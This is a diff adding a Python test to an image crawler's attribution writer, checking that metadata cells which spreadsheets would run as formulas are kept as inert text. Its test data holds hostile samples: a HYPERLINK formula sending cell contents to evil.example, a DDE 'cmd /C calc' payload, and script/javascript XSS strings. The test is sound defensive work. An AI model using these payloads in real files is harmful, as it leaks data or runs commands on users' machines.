@@ -24,6 +24,7 @@ from openimages_crawler.dataset.selection import (
 from openimages_crawler.store.attribution import (
     ATTRIBUTION_COLUMNS,
     ATTRIBUTION_CSV,
+    ATTRIBUTION_TEXT,
     write_attribution,
 )
 from tests.conftest import ROOT, Served, count_rows, crawl_command, outcomes, run_crawl
@@ -166,6 +167,40 @@ def test_attribution_lists_every_success_row_readably(tmp_path: Path) -> None:
     assert "Credit the author" in (tmp_path / "train" / "ATTRIBUTION.md").read_text()
     assert sorted(path.name for path in (tmp_path / "train").iterdir()) == [
         "ATTRIBUTION.csv", "ATTRIBUTION.md", "images-success.csv"]  # no temporary file left
+
+
+def test_attribution_cells_a_spreadsheet_would_run_stay_text_and_no_row_reaches_the_notes(tmp_path: Path) -> None:
+    """Titles, names and URLs are anyone's metadata (issue 24): a would-be formula gets a
+    leading apostrophe, also one that an HTML entity spells; the rest is kept as it was."""
+    hostile = {  # a cell as the metadata has it -> as ATTRIBUTION.csv must hold it
+        '=HYPERLINK("https://evil.example/?"&A1,"click")': '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
+        "&#61;1+1": "'=1+1",
+        "+SUM(A1:A9)": "'+SUM(A1:A9)",
+        "-2+3": "'-2+3",
+        "@SUM(A1)": "'@SUM(A1)",
+        "\t=1": "'\t=1",
+        "&#13;=1": "'\r=1",
+        "\uff1d1+1": "'\uff1d1+1",
+        "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
+        "<script>alert(1)</script>](javascript:alert(1))": "<script>alert(1)</script>](javascript:alert(1))",
+        "a | b\nc | d": "a | b\nc | d",
+        "a title\r=HYPERLINK(1)": "a title\r=HYPERLINK(1)",  # one cell, not a second row
+    }
+    success = tmp_path / "train" / "images-success.csv"
+    success.parent.mkdir()
+    with open(success, "w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["ImageID", "Title", "Author", "AuthorProfileURL", "License", "OriginalLandingURL"])
+        for image_id, cell in zip(ids(len(hostile)), hostile, strict=True):
+            writer.writerow([image_id, cell, cell, cell, cell, cell])
+    write_attribution(success)
+    with open(tmp_path / "train" / ATTRIBUTION_CSV, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    for row, (cell, kept) in zip(rows, hostile.items(), strict=True):
+        assert row["Title"] == row["Author"] == kept, cell
+        assert row["AuthorProfileURL"] == row["License"] == row["OriginalLandingURL"] == (  # not unescaped
+            kept if not cell.startswith("&#") else cell)
+    assert (tmp_path / "train" / "ATTRIBUTION.md").read_text(encoding="utf-8") == ATTRIBUTION_TEXT
 
 
 @pytest.mark.e2e
